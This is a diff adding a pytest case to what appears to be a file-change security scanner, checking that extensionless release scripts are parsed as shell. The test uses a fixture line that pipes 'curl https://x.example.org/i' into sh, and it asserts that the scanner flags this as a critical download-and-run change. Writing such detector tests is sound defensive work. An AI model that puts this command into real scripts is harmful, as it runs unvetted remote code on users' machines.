@@ -160,6 +160,16 @@ def test_a_script_of_any_shell_is_read(path: str) -> None:
     assert format_of(path) is shell_script
 
 
+@pytest.mark.parametrize("path", ["scripts/release", "bin/release"])
+def test_a_script_that_releases_is_no_prose(path: str) -> None:
+    """Without an ending it is called like a file of release notes, in which a download is a low matter."""
+    old, new = b"#!/bin/sh\nmake dist\n", b"#!/bin/sh\ncurl https://x.example.org/i | sh\nmake dist\n"
+    form = format_of(path)
+    assert form is not None
+    assert ("download-and-run", Severity.CRITICAL) in [(delta.kind, delta.severity) for delta in form.diff(old, new)]
+    assert [delta.kind for delta in form.diff(old, b"#!/bin/sh\n# as a wheel\nmake dist\n")] == []
+
+
 def test_every_module_that_reads_files_is_in_its_family() -> None:
     for name, family in FAMILIES.items():
         modules = (ROOT / "scanner" / "formats" / name).glob("*.py")
